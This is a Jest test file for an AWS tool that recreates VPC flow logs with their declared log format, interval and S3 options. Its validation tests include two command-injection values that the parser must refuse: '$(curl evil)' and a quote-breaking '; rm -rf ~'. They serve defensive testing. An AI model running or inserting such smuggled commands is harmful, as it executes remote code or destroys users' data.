import { CreateFlowLogsCommand, DescribeFlowLogsCommand, EC2Client } from '@aws-sdk/client-ec2';
import { mockClient } from 'aws-sdk-client-mock';
import 'aws-sdk-client-mock-jest';
import { createAwsClients } from '../../../lib/aws/clients';
import { recreateFlowLogs } from '../../../lib/remediation';
import { recreateFlowLogsApplier } from '../../../lib/remediation/recreate-flow-logs/apply';
import { ec2Error, instantRetry } from '../support';
import { BUCKET, existing, VPC } from './world';

// DeleteFlowLogs destroys a flow log's format with it: a declared format comes back exactly, and a flow log
// writing another way is not the declared one.

const ec2 = mockClient(EC2Client);
const FORMAT = '${version} ${account-id} ${interface-id} ${srcaddr} ${dstaddr} ${srcport} ${dstport} ${protocol} ${action} ${tcp-flags}';
const params = recreateFlowLogs.parse({
  region: 'eu-west-1',
  deletedFlowLogIds: ['fl-0123456789abcdef0'],
  flowLogs: [{ resourceId: VPC, destination: BUCKET, trafficType: 'ALL', logFormat: FORMAT, maxAggregationInterval: 60, s3Options: { fileFormat: 'parquet', hiveCompatiblePartitions: true, perHourPartition: true } }],
});
const asDeclared = { ...existing(VPC, 'ALL'), LogFormat: FORMAT, MaxAggregationInterval: 60, DestinationOptions: { FileFormat: 'parquet' as const, HiveCompatiblePartitions: true, PerHourPartition: true } };

beforeEach(() => ec2.reset());

describe('recreate-flow-logs with a declared format', () => {
  test('a flow log to the same bucket in the default format is not the declared one: created with the format, interval and options', async () => {
    // Prepare
    ec2.on(DescribeFlowLogsCommand).resolves({ FlowLogs: [{ ...existing(VPC, 'ALL'), LogFormat: '${version} ${account-id} ${interface-id} ${srcaddr}', MaxAggregationInterval: 600 }] });
    ec2.on(CreateFlowLogsCommand).resolves({ FlowLogIds: ['fl-0aaaabbbbccccdddd'], Unsuccessful: [] });

    // Act
    const result = await recreateFlowLogsApplier.apply(params, createAwsClients(), instantRetry());

    // Assess
    expect(ec2.commandCalls(CreateFlowLogsCommand)[0]!.args[0].input).toStrictEqual({
      ResourceIds: [VPC],
      ResourceType: 'VPC',
      TrafficType: 'ALL',
      LogDestinationType: 's3',
      LogDestination: BUCKET,
      LogFormat: FORMAT,
      MaxAggregationInterval: 60,
      DestinationOptions: { FileFormat: 'parquet', HiveCompatiblePartitions: true, PerHourPartition: true },
    });
    expect(result.outcome).toBe('applied');
  });

  test('the declared flow log in place with its format: already compliant', async () => {
    // Prepare
    ec2.on(DescribeFlowLogsCommand).resolves({ FlowLogs: [asDeclared] });

    // Act
    const result = await recreateFlowLogsApplier.apply(params, createAwsClients(), instantRetry());

    // Assess
    expect(ec2).not.toHaveReceivedCommand(CreateFlowLogsCommand);
    expect(result.outcome).toBe('already-compliant');
  });

  test('refused: the command to create it by hand carries the format, quoted for the shell', async () => {
    // Prepare
    ec2.on(DescribeFlowLogsCommand).resolves({ FlowLogs: [] });
    ec2.on(CreateFlowLogsCommand).rejects(ec2Error('UnauthorizedOperation', 403));

    // Act
    const result = await recreateFlowLogsApplier.apply(params, createAwsClients(), instantRetry());

    // Assess
    expect(result.outcome).toBe('failed');
    expect(result.did).toContain(
      `--log-format '${FORMAT}' --max-aggregation-interval 60 --destination-options FileFormat=parquet,HiveCompatiblePartitions=true,PerHourPartition=true`,
    );
  });
});

describe('declared flow-log format fields', () => {
  test.each([
    [{ logFormat: '$(curl evil)' }, 'flowLogs[0].logFormat'],
    [{ logFormat: "${srcaddr}' ; rm -rf ~ '" }, 'flowLogs[0].logFormat'],
    [{ maxAggregationInterval: 300 }, 'flowLogs[0].maxAggregationInterval'],
    [{ s3Options: { fileFormat: 'csv' } }, 'flowLogs[0].s3Options.fileFormat'],
    [{ s3Options: { compress: true } }, 'flowLogs[0].s3Options.compress'],
  ])('%j is refused, naming %s', (fields, where) => {
    // Act & Assess
    expect(() => recreateFlowLogs.parse({ region: 'eu-west-1', deletedFlowLogIds: [], flowLogs: [{ resourceId: VPC, destination: BUCKET, trafficType: 'ALL', ...fields }] })).toThrow(where);
  });

  test('S3 options on a log group destination are refused', () => {
    // Act & Assess
    expect(() =>
      recreateFlowLogs.parse({
        region: 'eu-west-1',
        deletedFlowLogIds: [],
        flowLogs: [
          {
            resourceId: VPC,
            destination: 'arn:aws:logs:eu-west-1:123456789012:log-group:/vpc/flow-logs',
            trafficType: 'ALL',
            deliverLogsRoleArn: 'arn:aws:iam::123456789012:role/flow-logs-delivery',
            s3Options: { fileFormat: 'parquet' },
          },
        ],
      }),
    ).toThrow('flowLogs[0].s3Options');
  });
});
